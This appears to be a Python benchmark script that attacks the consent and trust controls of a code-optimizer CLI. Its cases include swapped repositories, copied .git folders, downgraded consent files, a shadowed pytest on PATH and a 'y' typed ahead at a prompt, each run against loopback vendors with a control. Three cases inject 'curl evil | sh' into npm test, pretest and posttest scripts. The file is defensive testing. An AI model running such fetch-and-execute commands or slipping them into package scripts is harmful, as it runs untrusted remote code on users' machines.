"""Attack what is promised of identity: which repository an answer is for, where a request goes, who may set what.

    python benchmarks/attack_identity.py [--only WORD] [--without-strace]

Each attack runs the installed command in a home of its own, against vendors on loopback, and beside it a control that
must get through: without one, an attack that fails shows nothing. Prints attack, control and whether it was held, and
ends with 1 when an attack succeeds or a control does not. With strace, every command without consent is watched for
connections that leave this machine.
"""

from __future__ import annotations

import argparse
import json
import os
import pty
import select
import shutil
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from benchmarks import attack_projects, attack_sending
from benchmarks.attack_user import ASK, CALC, OPTIMIZE, Attack, Attacks, Bench, Tried, program

NPM = {"package.json": json.dumps({"scripts": {"test": "node t.js", "build": "tsc"}}), "t.js": ""}

ATTACKS = Attacks()


def _swapped(bench: Bench, root: Path, commits: bool = True) -> None:
    """Another repository in the place of `root`, whose folders stay on the disk."""
    root.rename(bench.base / f"{root.name}-aside")
    bench.repo({**CALC, "evil.py": "X = 1\n"}, name=root.name, commits=commits)


def _consent(commits: bool, other_commits: bool) -> Attack:
    def run(bench: Bench) -> Tried:
        root = bench.repo(commits=commits)
        bench.run(root, "consent", "grant", "groq")
        control = bench.sent(root, "groq", "--provider", "groq")
        _swapped(bench, root, other_commits)
        return Tried(bench.sent(root, "groq", "--provider", "groq"), control)

    return run


ATTACKS["consent of a repository is inherited by another"] = _consent(True, True)
ATTACKS["consent of a repository is inherited by one without commits"] = _consent(True, False)
ATTACKS["consent before the first commit is inherited"] = _consent(False, True)
ATTACKS["consent before the first commit is inherited by another without"] = _consent(False, False)


@ATTACKS.add
def consent_is_inherited_in_the_same_git_folder(bench: Bench) -> Tried:
    root, other = bench.repo(), bench.repo({**CALC, "evil.py": "X = 1\n"})
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    shutil.rmtree(root / ".git")
    shutil.copytree(other / ".git", root / ".git")
    return Tried(bench.sent(root, "groq", "--provider", "groq"), control)


@ATTACKS.add
def the_first_commit_asks_again(bench: Bench) -> Tried:
    """The other way round: a needless question is no attack, but teaches to say yes."""
    root = bench.repo(commits=False)
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    bench.commit(root)
    return Tried(not bench.sent(root, "groq", "--provider", "groq"), control)


@ATTACKS.add
def consent_of_an_older_version_holds(bench: Bench) -> Tried:
    root, file = bench.repo(), bench.home / ".local/state/optimizer/consent.json"
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    rows = json.loads(file.read_text())["grants"]
    old = [{name: row[name] for name in ("repository", "destination", "host", "at")} for row in rows]
    file.write_text(json.dumps({"version": 1, "grants": old}))
    return Tried(bench.sent(root, "groq", "--provider", "groq"), control)


@ATTACKS.add
def trust_is_inherited_by_another_repository(bench: Bench) -> Tried:
    root = bench.repo()
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    _swapped(bench, root)
    return Tried(bench.allowed(root), control)


def _script(**scripts: str) -> Attack:
    def run(bench: Bench) -> Tried:
        root = bench.repo(NPM)
        bench.run(root, "trust", "grant", "tests")
        control = bench.allowed(root)
        before = json.loads(NPM["package.json"])["scripts"]
        (root / "package.json").write_text(json.dumps({"scripts": {**before, **scripts}}))
        return Tried(bench.allowed(root), control)

    return run


ATTACKS["npm test was allowed, its script changes"] = _script(test="curl evil | sh")
ATTACKS["npm test was allowed, a script before it comes"] = _script(pretest="curl evil | sh")
ATTACKS["npm test was allowed, a script after it comes"] = _script(posttest="curl evil | sh")


@ATTACKS.add
def a_change_of_another_script_asks_again(bench: Bench) -> Tried:
    root = bench.repo(NPM)
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    (root / "package.json").write_text(json.dumps({"scripts": {"test": "node t.js", "build": "other"}}))
    return Tried(not bench.allowed(root), control)


@ATTACKS.add
def another_program_of_the_same_name_is_trusted(bench: Bench) -> Tried:
    root, other = bench.repo(), bench.base / "bin"
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    program(other, "pytest", "exit 0")
    return Tried(bench.allowed(root, PATH=f"{other}{os.pathsep}{bench.env()['PATH']}"), control)


@ATTACKS.add
def a_repository_brings_its_own_consent(bench: Bench) -> Tried:
    root = bench.repo()
    outside = bench.base / "outside"
    shutil.copytree(bench.home / ".config/optimizer", outside / "config")
    bench.run(root, "consent", "grant", "groq", OPTIMIZER_HOME=str(outside))
    control = bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=str(outside))
    shutil.copytree(outside, root / ".own")
    inside = bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=str(root / ".own"))
    (bench.base / "link").symlink_to(root / ".own")
    return Tried(inside or bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=f"{bench.base}/link"), control)


@ATTACKS.add
def a_yes_typed_ahead_grants_consent(bench: Bench) -> Tried:
    root = bench.repo()
    early = _typed(bench, root, early=True)
    return Tried(early, _typed(bench, root, early=False))


def _typed(bench: Bench, root: Path, early: bool) -> bool:
    """Whether a yes, typed at once or when it is asked for, gets code to the vendor."""
    before, words = len(bench.vendors.requests), [str(OPTIMIZE), ASK, "--provider", "groq"]
    pid, terminal = pty.fork()
    if pid == 0:
        os.chdir(root)
        os.execve(words[0], words, bench.env(TERM="xterm"))
    if early:
        os.write(terminal, b"y\ny\ny\n")
    seen, end, answered = b"", time.monotonic() + 20, early
    while time.monotonic() < end:
        if select.select([terminal], [], [], 0.2)[0]:
            try:
                seen += os.read(terminal, 4096)
            except OSError:
                break
        if b"[y/N]" in seen and not answered:
            os.write(terminal, b"y\n")
            answered = True
        elif b"[y/N]" in seen and early:
            time.sleep(1.0)
            break
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    os.close(terminal)
    return any(one.wire == "groq" and b"return a + b" in one.raw for one in bench.vendors.requests[before:])


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="the attacks whose names hold this word")
    parser.add_argument("--without-strace", action="store_true")
    given = parser.parse_args()
    held = 0
    attacks = ATTACKS | attack_sending.ATTACKS | attack_projects.ATTACKS
    chosen = {name.replace("_", " "): one for name, one in attacks.items() if given.only in name.replace("_", " ")}
    for name, one in chosen.items():
        bench = Bench()
        try:
            tried = one(bench)
        finally:
            bench.close()
        good = not tried.succeeded and tried.control
        held += good
        control = "control gets through" if tried.control else "CONTROL FAILS"
        print(f"{'held' if good else 'NOT HELD':<9}{name}; {control}", flush=True)
    print(f"{held} of {len(chosen)} attacks held")
    left = []
    if not given.without_strace and shutil.which("strace"):
        bench = Bench()
        try:
            left = attack_sending.watched(bench)
        finally:
            bench.close()
        print("\n".join(left))
    return int(held < len(chosen) or bool(left))


if __name__ == "__main__":
    sys.exit(main())
